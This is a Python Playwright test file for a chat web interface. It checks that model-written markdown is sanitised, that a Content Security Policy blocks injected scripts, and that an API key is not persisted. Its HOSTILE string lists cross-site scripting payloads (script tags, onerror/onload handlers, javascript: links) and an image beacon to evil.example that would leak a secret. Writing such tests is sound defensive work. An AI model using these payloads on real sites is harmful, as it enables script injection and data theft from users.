"""What a model writes cannot do anything, and the key is not kept."""

from __future__ import annotations

from tests.page.support import Window, expect, worker_that_writes
from tests.server.serving import serving

from headstart.config import ServerConfig

HOSTILE = """<script>document.title = "owned"</script>
<img src=x onerror="document.title = 'owned'">
<svg onload="document.title = 'owned'"></svg>
<iframe srcdoc="<script>parent.document.title = 'owned'</script>"></iframe>
<style>body { display: none }</style>
<form action="https://evil.example"><button>Send</button></form>
<a href="#" style="position:fixed;inset:0">cover</a>

[link](javascript:document.title='owned') [data](data:text/html,<script>alert(1)</script>)
![picture](https://evil.example/leak.png?secret) [fine](https://example.com "title")

[ref]

[ref]: javascript:document.title='owned'

```html"onmouseover="document.title='owned'
</code><img src=x onerror="document.title = 'owned'">
```

<b onmouseover="document.title='owned'">hover</b> &lt;img src=x onerror=alert(1)&gt;
"""


def test_hostile_markdown_does_nothing(window: Window) -> None:
    window.show(worker_that_writes(HOSTILE))
    answer = window.ask("Go on")
    page = window.page
    for selector in ("script", "img", "svg:not(.icon)", "iframe", "style", "form", "[onerror]"):
        expect(answer.locator(f".text {selector}")).to_have_count(0)
    expect(answer.locator(".text [style]")).to_have_count(0)
    links = answer.locator(".text a[href]")
    expect(links).to_have_count(2)
    image = "https://evil.example/leak.png?secret"  # it is not loaded
    expect(links.first).to_have_attribute("href", image)
    expect(links.first).to_have_attribute("rel", "noopener noreferrer")
    expect(links.last).to_have_attribute("href", "https://example.com")
    answer.get_by_text("hover").first.hover()
    assert page.title() == "Headstart"
    assert page.evaluate("getComputedStyle(document.body).display") == "grid"


def test_the_policy_stops_scripts_that_got_in_anyway(window: Window) -> None:
    window.expected = ("Content Security Policy", "violates", "TrustedHTML", "TrustedScript")
    window.show()
    blocked = window.page.evaluate(
        "() => { try { document.body.innerHTML = '<p>x</p>'; return false }"
        " catch (error) { return error instanceof TypeError } }"
    )
    assert blocked
    blocked = window.page.evaluate(
        "() => { try { document.body.setAttribute('onclick', 'document.title = 1'); }"
        " catch (error) { return error instanceof TypeError } }"
    )
    assert blocked
    assert window.page.title() == "Headstart"


def test_the_key_is_asked_for_once_and_kept_for_the_session_only(window: Window) -> None:
    window.expected = ("401 (Unauthorized)",)
    with serving(worker_that_writes("Hello"), ServerConfig(api_key="secret")) as client:
        page = window.page
        page.goto(str(client.base_url))
        page.get_by_label("Key", exact=True).fill("wrong")
        page.get_by_role("button", name="Continue").click()
        page.get_by_text("The server does not know this key.").wait_for()
        page.get_by_label("Key", exact=True).fill("secret")
        page.get_by_role("button", name="Continue").click()
        window.is_ready()
        expect(window.ask("Go on")).to_contain_text("Hello")
        window.reload()
        expect(page.locator("#key-dialog")).to_be_hidden()
        kept = page.evaluate("JSON.stringify([{...localStorage}, document.cookie])")
        assert "secret" not in kept
        other = page.context.new_page()  # another tab is another session
        other.goto(str(client.base_url))
        other.locator("#key-dialog").wait_for()
